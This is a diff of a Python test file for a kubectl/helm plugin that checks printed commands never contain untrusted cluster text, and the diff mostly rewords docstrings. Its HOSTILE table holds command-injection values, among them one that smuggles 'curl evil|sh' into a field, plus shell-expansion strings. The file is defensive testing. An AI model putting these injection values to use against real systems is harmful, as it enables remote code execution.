@@ -1,4 +1,4 @@
-"""Whatever a cluster, a file or a command line holds, no printed command has a word of a stranger.
+"""Printed commands contain no untrusted text, whatever a cluster, a file or a command line contains.
 
 Each world is the demo cluster with hostile texts in the place of its own. All commands of the plugin are run over it,
 and every line of what they print is searched: no hostile text follows ``kubectl`` or ``helm``, except for words that
@@ -28,7 +28,7 @@ from tests.kubectl_plugin.running import run, write_cluster
 from tests.tree import ROOT
 
 MARK: Final = "evil"
-"""It is part of each hostile text, and of nothing else."""
+"""Part of each hostile text, and of no other text."""
 HOSTILE: Final[dict[str, Callable[[str], str]]] = {
     "shell": lambda text: f"{text};curl {MARK}|sh #",
     "expansion": lambda text: f"{text}$({MARK})`{MARK}`'\"",
@@ -40,14 +40,14 @@ HOSTILE: Final[dict[str, Callable[[str], str]]] = {
 }
 _NAMES: Final = re.compile("name|namespace|uid|holderIdentity|[a-zA-Z]*(Name|Namespace|Identity|Handle)")
 _KEPT: Final = ("Lease", "Event")
-"""Kinds whose texts stay where all names are changed: they tell which nodes are silent, and what ended."""
+"""Kinds that keep their texts when all names change: they show which nodes are silent, and what ended."""
 _COMMAND: Final = re.compile(r"\b(?:kubectl|helm) .*")
 _NEXT: Final = re.compile(r"^(?:Next +|         +)(kubectl .*)$", re.MULTILINE)
 Pattern = tuple[str, ...]
 
 
 def texts(entry: Any, path: Pattern) -> Iterator[Pattern]:
-    """The place of each string in an object, without the numbers of lists."""
+    """The place of each string in an object, without list indices."""
     if isinstance(entry, str):
         yield path
     for key, value in entry.items() if isinstance(entry, dict) else ():
@@ -70,7 +70,7 @@ def is_name(path: Pattern) -> bool:
 
 
 def command_lines(file: Path, pod: Any, rename: Callable[[str], str], folder: Path) -> Iterator[list[str]]:
-    """Every command of the plugin, over a snapshot and over a manifest, about lists and about single objects."""
+    """Every command of the plugin, for a snapshot and a manifest, for lists and single objects."""
     manifest = folder / rename("web.yaml").replace("/", "_")
     manifest.write_text(json.dumps(pod))
     shop, pod = rename("shop"), f"pod/{rename('db-1')}"
@@ -113,7 +113,7 @@ def command_lines(file: Path, pod: Any, rename: Callable[[str], str], folder: Pa
 
 
 def printed(line: list[str], folder: Path) -> str:
-    """What a command prints, with the commands that need a live cluster."""
+    """The output of a command, including commands that need a live cluster."""
     target = ClusterOptions.target
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(ClusterOptions, "target", lambda *given: replace(target(*given), live=True))
@@ -121,14 +121,14 @@ def printed(line: list[str], folder: Path) -> str:
     page = folder / "report.html"
     text = ran.out + ran.err
     if page.exists():
-        # What is in one element stands on one line.
+        # The content of one element is on one line.
         text += "\n".join(map(html.unescape, re.findall(r">([^<]+)<", page.read_text())))
         page.unlink()
     return text
 
 
 def run_all(objects: list[Any], rename: Callable[[str], str], folder: Path) -> tuple[set[str], set[str]]:
-    """The commands with the first words of all words, and the first words of what was run.
+    """Run every command and return the suggested commands by their first words, and the first words of what was run.
 
     Raises:
         AssertionError: a hostile text follows ``kubectl``.
@@ -148,7 +148,7 @@ def run_all(objects: list[Any], rename: Callable[[str], str], folder: Path) -> t
 
 
 def only_typed(command: str, typed: set[str]) -> bool:
-    """Whether each hostile word of a command is one that was typed, or a name in it, and is quoted."""
+    """Whether each hostile word of a command was typed, or is a name in a typed word, and is quoted."""
     words = [word for word in shlex.split(command) if MARK in word]
     return all(any(re.sub("^(pod|node|deployment)/", "", word) in escape(one) for one in typed) for word in words)
 
@@ -163,7 +163,7 @@ def shape(command: str) -> str:
 
 @pytest.fixture(scope="module")
 def usual(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
-    """The shapes of all commands that the demo cluster as it is has suggested."""
+    """The shapes of all commands that the unchanged demo cluster suggests."""
     folder = tmp_path_factory.mktemp("usual")
     found, ran = run_all(demo_objects(), str, folder)
     assert ran >= set(COMMANDS), "a command of the plugin is not run here"
@@ -172,7 +172,7 @@ def usual(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
 
 
 def hold(folder: Path, hostile: Callable[[str], str], chosen: Callable[[Pattern], bool], usual: set[str]) -> None:
-    """Run everything over a world; every suggested command has a shape that a harmless one has."""
+    """Run every command over a world; every suggested command has a shape that a harmless world suggests."""
     objects = [changed(entry, (entry["kind"],), hostile, chosen) for entry in demo_objects()]
     found, _ = run_all(objects, hostile if chosen(("Pod", "metadata", "name")) else str, folder)
     assert found <= usual
@@ -202,7 +202,7 @@ def test_no_text_of_any_field_is_in_a_command(tmp_path: Path, part: int, usual: 
         hold(tmp_path, HOSTILE[chance.choice(sorted(HOSTILE))], some.__contains__, usual)
 
 
-# In the source
+# Source code
 
 
 _MAKERS: Final = {"command", "kubectl", "qos"}
@@ -227,11 +227,11 @@ _OWN: Final = {
     "cluster_io/manifests": {"command", "folder"},
     "webhook/rules/force_delete.py": {"_READ % 'metadata.uid'"},
 }
-"""By file or folder: values that come from a table of ours, are quoted before, or do not stand in a command."""
+"""By file or folder: values that come from our own table, are quoted before, or are not part of a command."""
 
 
 def unchecked(file: Path) -> Iterator[tuple[str, str]]:
-    """Values that are formatted into the text of a command without a check."""
+    """Values formatted into the text of a command without a check."""
     name = file.relative_to(ROOT).as_posix()
     own = {value for place, values in _OWN.items() if name.startswith(place) for value in values}
     text = file.read_text()
